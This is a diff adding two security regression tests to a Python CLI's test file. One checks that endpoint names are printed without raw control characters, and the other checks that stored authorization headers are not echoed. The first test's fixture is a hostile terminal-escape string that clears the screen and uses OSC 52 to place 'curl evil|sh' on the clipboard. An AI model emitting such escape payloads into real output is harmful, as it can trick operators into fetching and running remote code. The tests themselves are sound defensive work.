@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import signal
 import subprocess
 import sys
@@ -812,3 +813,52 @@ def test_a_duration_too_long_for_a_command_is_a_usage_error(db, database_url):
         database_url, "endpoint", "rotate-secret", str(endpoint), "--grace", "99999999999d"
     )
     assert "'99999999999d' is longer than 10 years" in usage_error(result)
+
+
+HOSTILE_TERMINAL_NAME = "crm\x1b]0;pwned\x07\x1b[2J\x1b[1A\x1b]52;c;Y3VybCBldmlsfHNo\x07"
+
+
+@pytest.mark.parametrize("command", [("endpoint", "list"), ("stats",), ("endpoint", "show")])
+def test_the_cli_does_not_print_a_tenants_terminal_escapes(db, database_url, command):
+    # What a user sees: `notifyhook endpoint list` (or `stats`, `endpoint show`) clears
+    # their screen, retitles their terminal and, through OSC 52, puts "curl evil|sh" in
+    # their clipboard, because an endpoint name (chosen by a tenant: "Endpoint names come
+    # from tenants", docs/dashboard.md) holds escape sequences, printed raw by
+    # commands.format_table/_cell. The dashboard escapes the same hostile text; the CLI,
+    # read by the operator with the most rights, passes it to the terminal as commands.
+    endpoint = add_endpoint(db, "acme", HOSTILE_TERMINAL_NAME, "https://crm.example/hook")
+    args = [*command, str(endpoint)] if command == ("endpoint", "show") else list(command)
+    result = run_cli(database_url, *args, check=True)
+    assert "crm" in result.stdout
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", result.stdout), (
+        f"`notifyhook {' '.join(command)}` printed raw control characters: "
+        f"{[line for line in result.stdout.splitlines() if chr(27) in line]!r}"
+    )
+
+
+# -- 4. `endpoint show` prints the receiver's credentials -----------------------------------
+
+
+def test_endpoint_show_does_not_print_the_credentials_in_headers(db, database_url):
+    # What a user sees: `notifyhook endpoint show 42` (pasted into a ticket, a chat, a CI
+    # log, or shown on a shared screen) prints `headers {"Authorization": "Bearer
+    # sk_live_..."}`, the credential the receiver accepts. The project treats these
+    # headers as credentials everywhere else: `endpoint add` takes them from standard
+    # input so argv never shows them, warns when a name says auth/token/key
+    # (docs/endpoint-control.md: "at a terminal the value is asked for and not
+    # echoed"), and `endpoint show` hides the secret itself ("never a secret itself").
+    credential = "sk_live_9f8e7d6c5b4a3928"
+    endpoint = add_endpoint(
+        db,
+        "acme",
+        "crm",
+        "https://crm.example/hook",
+        headers=json.dumps({"Authorization": f"Bearer {credential}", "X-Api-Key": credential}),
+    )
+    for extra in ((), ("--json",)):
+        shown = run_cli(database_url, "endpoint", "show", str(endpoint), *extra, check=True)
+        assert "headers" in shown.stdout
+        assert credential not in shown.stdout, (
+            f"`endpoint show {' '.join(extra)}` printed the Authorization credential: "
+            f"{[line for line in shown.stdout.splitlines() if credential in line]!r}"
+        )
